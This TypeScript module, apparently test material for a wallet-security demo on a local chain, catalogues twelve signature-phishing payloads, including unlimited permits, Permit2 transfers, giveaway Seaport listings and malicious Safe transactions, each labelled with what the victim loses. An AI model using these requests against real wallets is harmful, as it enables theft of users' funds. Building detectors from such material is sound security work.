import { maxUint256, type Hex } from 'viem'
import { LOCAL_EVM_CONTRACTS } from '#demo/chains/evm/local-contracts.ts'
import { call, DRAIN_ABI, NOTHING, PERMIT2, type Drain, type DrainPlaces } from './drain.ts'

const { token, collectible, wrappedEther } = LOCAL_EVM_CONTRACTS
const SEAPORT = '0x0000000000000068F116a894984e2DB1123eB395'
const CHAIN = 31_337
const FAR = String(maxUint256)

/** Builds typed data for the victim to sign. */
function signed(
  victim: Hex,
  contract: string,
  primaryType: string,
  types: Readonly<Record<string, string>>,
  message: Readonly<Record<string, unknown>>,
) {
  const members = (text: string) =>
    text.split(',').map((one) => ({ type: one.split(' ')[0], name: one.split(' ')[1] }))
  const data = {
    types: Object.fromEntries(Object.entries(types).map(([name, text]) => [name, members(text)])),
    primaryType,
    domain: { name: 'Token', chainId: CHAIN, verifyingContract: contract },
    message,
  }
  return { method: 'eth_signTypedData_v4', params: [victim, JSON.stringify(data)] }
}

const PERMIT = 'address owner,address spender,uint256 value,uint256 nonce,uint256 deadline'
const DETAILS = 'address token,uint160 amount,uint48 expiration,uint48 nonce'
const PERMITTED = 'address token,uint256 amount'
const SAFE_TX =
  'address to,uint256 value,bytes data,uint8 operation,uint256 safeTxGas,uint256 baseGas,uint256 gasPrice,address gasToken,address refundReceiver,uint256 nonce'
const OFFER =
  'uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount'
const ORDER =
  'address offerer,address zone,OfferItem[] offer,ConsiderationItem[] consideration,uint8 orderType,uint256 startTime,uint256 endTime,bytes32 zoneHash,uint256 salt,bytes32 conduitKey,uint256 counter'
const NOBODY: Hex = `0x${'0'.repeat(40)}`

const safeTx = (places: DrainPlaces, more: object) =>
  signed(
    places.victim,
    places.keys,
    'SafeTx',
    { SafeTx: SAFE_TX },
    {
      to: places.attacker,
      value: '0',
      data: '0x',
      operation: 0,
      safeTxGas: '0',
      baseGas: '0',
      gasPrice: '0',
      gasToken: NOBODY,
      refundReceiver: NOBODY,
      nonce: '0',
      ...more,
    },
  )
const listing = (places: DrainPlaces, offer: object, requests: readonly object[]) =>
  signed(
    places.victim,
    SEAPORT,
    'OrderComponents',
    { OrderComponents: ORDER, OfferItem: OFFER, ConsiderationItem: `${OFFER},address recipient` },
    {
      offerer: places.victim,
      zone: NOBODY,
      offer: [{ identifierOrCriteria: '0', startAmount: '1', endAmount: '1', ...offer }],
      consideration: requests.map((one) => ({
        itemType: 0,
        token: NOBODY,
        identifierOrCriteria: '0',
        ...one,
      })),
      orderType: 0,
      startTime: '0',
      endTime: '2000000000',
      zoneHash: NOTHING,
      salt: '1',
      conduitKey: NOTHING,
      counter: '0',
    },
  )

/** Signatures that suffice to take something. */
export const SIGNATURES: readonly Drain[] = [
  {
    name: 'a permit of all for good',
    loses: 'all dUSD',
    request: ({ victim, attacker }) =>
      signed(
        victim,
        token,
        'Permit',
        { Permit: PERMIT },
        {
          owner: victim,
          spender: attacker,
          value: FAR,
          nonce: '0',
          deadline: FAR,
        },
      ),
  },
  {
    name: 'a permit with a member of its own',
    loses: 'all dUSD',
    request: ({ victim, drainer }) =>
      signed(
        victim,
        token,
        'Permit',
        { Permit: `${PERMIT},address beneficiary` },
        {
          owner: victim,
          spender: drainer,
          value: '100',
          nonce: '0',
          deadline: '1',
          beneficiary: drainer,
        },
      ),
  },
  {
    name: 'a permit of Permit2',
    loses: 'all dUSD',
    request: ({ victim, attacker }) =>
      signed(
        victim,
        PERMIT2,
        'PermitSingle',
        { PermitSingle: 'PermitDetails details,address spender,uint256 sigDeadline', PermitDetails: DETAILS },
        {
          details: { token, amount: String(2n ** 160n - 1n), expiration: String(2 ** 48 - 1), nonce: '0' },
          spender: attacker,
          sigDeadline: FAR,
        },
      ),
  },
  {
    name: 'a transfer of Permit2',
    loses: 'all dUSD',
    request: ({ victim, attacker }) =>
      signed(
        victim,
        PERMIT2,
        'PermitTransferFrom',
        {
          PermitTransferFrom: 'TokenPermissions permitted,address spender,uint256 nonce,uint256 deadline',
          TokenPermissions: PERMITTED,
        },
        { permitted: { token, amount: '100000000' }, spender: attacker, nonce: '1', deadline: FAR },
      ),
  },
  {
    name: 'an order of UniswapX that gives all for almost nothing',
    loses: '100 dUSD',
    request: ({ victim, drainer }) =>
      signed(
        victim,
        PERMIT2,
        'PermitWitnessTransferFrom',
        {
          PermitWitnessTransferFrom:
            'TokenPermissions permitted,address spender,uint256 nonce,uint256 deadline,LimitOrder witness',
          TokenPermissions: PERMITTED,
          LimitOrder: 'address inputToken,uint256 inputAmount,OutputToken[] outputs',
          OutputToken: 'address token,uint256 amount,address recipient',
        },
        {
          permitted: { token, amount: '100000000' },
          spender: drainer,
          nonce: '1',
          deadline: '1',
          witness: {
            inputToken: token,
            inputAmount: '100000000',
            outputs: [{ token: wrappedEther, amount: '1', recipient: victim }],
          },
        },
      ),
  },
  {
    name: 'an item listed for almost nothing',
    loses: 'a DEMO item',
    request: (places) =>
      listing(places, { itemType: 2, token: collectible, identifierOrCriteria: String(places.item) }, [
        { startAmount: '1', endAmount: '1', recipient: places.victim },
      ]),
  },
  {
    name: 'tokens offered to the attacker',
    loses: '100 dUSD',
    request: (places) =>
      listing(places, { itemType: 1, token, startAmount: '1', endAmount: '100000000' }, [
        { startAmount: '1000000000000000000', endAmount: '1000000000000000000', recipient: places.attacker },
      ]),
  },
  {
    name: 'an authorisation of a transfer for good',
    loses: '100 dUSD',
    request: ({ victim, attacker }) =>
      signed(
        victim,
        token,
        'ReceiveWithAuthorization',
        {
          ReceiveWithAuthorization:
            'address from,address to,uint256 value,uint256 validAfter,uint256 validBefore,bytes32 nonce',
        },
        { from: victim, to: attacker, value: '100000000', validAfter: '0', validBefore: FAR, nonce: NOTHING },
      ),
  },
  {
    name: 'a Safe that lends its code',
    loses: 'the safe',
    request: (places) => safeTx(places, { operation: 1 }),
  },
  {
    name: 'a Safe that refunds more than it pays',
    loses: 'what the safe has',
    request: (places) =>
      safeTx(places, {
        baseGas: '1000000000',
        gasPrice: '1000000000000',
        gasToken: token,
        refundReceiver: places.attacker,
      }),
  },
  {
    name: 'a Safe that gets another owner',
    loses: 'the safe',
    request: (places) =>
      safeTx(places, {
        to: places.keys,
        data: call({ abi: DRAIN_ABI, functionName: 'addOwnerWithThreshold', args: [places.attacker, 1n] }),
      }),
  },
  {
    name: 'an opaque hash',
    loses: 'whatever it is the hash of',
    request: ({ victim }) => ({ method: 'personal_sign', params: [`0x${'f3'.repeat(32)}`, victim] }),
  },
]
